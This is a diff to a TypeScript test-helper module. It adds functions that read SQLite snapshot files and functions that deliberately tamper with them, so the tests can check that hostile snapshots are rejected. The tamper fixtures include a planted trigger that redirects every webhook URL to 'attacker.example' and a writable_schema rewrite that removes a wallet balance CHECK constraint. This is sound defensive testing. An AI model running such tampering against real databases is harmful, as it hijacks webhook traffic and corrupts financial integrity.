@@ -57,6 +57,10 @@
 // - pgAccountIds, pgApiKeyCount, pgMessages, pgWalletAndLedger, pgMediaOf, pgMediaNames: rows as
 //   a PostgreSQL database holds them, read on a connection of the test's own, for "stored in
 //   PostgreSQL" (and once, not twice) as the database itself has it, whichever replica wrote it.
+// - snapshotIntegrity, snapshotMessageBodies, makeSnapshotOlder, tamperSnapshot: a snapshot file (an
+//   SQLite file a service is not running on) read or altered as a file: its rows prove the copy was
+//   consistent and whole, and an older or hostile file is something only another build or an
+//   attacker writes. No service is running on the file to ask.
 import type { ServiceDeps } from '../../src/server/deps.js';
 import type { TestSql } from './test-sql.js';
 import type { UsageCategory } from '../../src/api/values/billing.js';
@@ -510,4 +514,68 @@ export async function pgMediaOf(url: string, name: string): Promise<Array<{ acco
 /** The names of every stored media file, as rows: what a refused upload must leave as it was. */
 export async function pgMediaNames(url: string): Promise<Array<{ name: string }>> {
   return await pgRows(url, 'SELECT name FROM media');
+}
+
+// --- SQLite snapshot files (no service running on them) -----------------------------------------
+
+/** Opens the SQLite file `file` on its own connection, runs `use` and closes it. */
+function withFile<T>(file: string, readonly: boolean, use: (db: Database.Database) => T): T {
+  const db = new Database(file, { readonly });
+  try {
+    return use(db);
+  } finally {
+    db.close();
+  }
+}
+
+/** A snapshot file's integrity check, its message count, and its messages without their conversation row (a torn copy). */
+export function snapshotIntegrity(file: string): { integrity: unknown; messages: number; orphanMessages: number } {
+  return withFile(file, true, (db) => ({
+    integrity: db.pragma('integrity_check', { simple: true }),
+    messages: (db.prepare('SELECT COUNT(*) AS n FROM messages').get() as { n: number }).n,
+    orphanMessages: (db.prepare('SELECT COUNT(*) AS n FROM messages m WHERE NOT EXISTS (SELECT 1 FROM conversations c WHERE c.account_id = m.account_id AND c.counterparty = m.counterparty)').get() as { n: number }).n,
+  }));
+}
+
+/** Every message body an SQLite file holds (a snapshot, or a data directory's database with no service on it). */
+export function snapshotMessageBodies(file: string): string[] {
+  return withFile(file, true, (db) => (db.prepare('SELECT body FROM messages').all() as Array<{ body: string }>).map((m) => m.body));
+}
+
+/** A snapshot made as an svc one migration older would have: its newest recorded version removed. Returns that version. */
+export function makeSnapshotOlder(file: string): number {
+  return withFile(file, false, (db) => {
+    const latest = (db.prepare('SELECT MAX(version) AS v FROM schema_migrations').get() as { v: number }).v;
+    db.prepare('DELETE FROM schema_migrations WHERE version = ?').run(latest);
+    return latest;
+  });
+}
+
+/**
+ * What a hostile or foreign snapshot file can hold that ours never does, planted into `file`:
+ * `trigger` (planted, on api_keys: it rewrites every webhook URL), `view` (planted_view), `dropped`
+ * (table sandbox_dns gone), `column` (messages.planted), `index` (planted_index on messages),
+ * `check` (the wallets table's CHECK (balance_cents >= 0) removed by rewriting its stored definition).
+ */
+export type SnapshotTamper = 'trigger' | 'view' | 'dropped' | 'column' | 'index' | 'check';
+
+const TAMPER_SQL: Record<Exclude<SnapshotTamper, 'check'>, string> = {
+  trigger: "CREATE TRIGGER planted AFTER INSERT ON api_keys BEGIN UPDATE webhook_endpoints SET url = 'https://attacker.example/hook'; END",
+  view: 'CREATE VIEW planted_view AS SELECT body FROM messages',
+  dropped: 'DROP TABLE sandbox_dns',
+  column: 'ALTER TABLE messages ADD COLUMN planted TEXT',
+  index: 'CREATE INDEX planted_index ON messages(body)',
+};
+
+/** Plants `tamper` (see SnapshotTamper) into the snapshot file `file`, as no svc writes it. */
+export function tamperSnapshot(file: string, tamper: SnapshotTamper): void {
+  withFile(file, false, (db) => {
+    if (tamper !== 'check') return void db.exec(TAMPER_SQL[tamper]);
+    // A removed CHECK: the stored definition rewritten, as a hostile file can be.
+    const { sql: table } = db.prepare("SELECT sql FROM sqlite_master WHERE name = 'wallets'").get() as { sql: string };
+    db.unsafeMode(true);
+    db.pragma('writable_schema = ON');
+    db.prepare("UPDATE sqlite_master SET sql = ? WHERE name = 'wallets'").run(table.replace('CHECK (balance_cents >= 0)', ''));
+    db.pragma('writable_schema = OFF');
+  });
 }
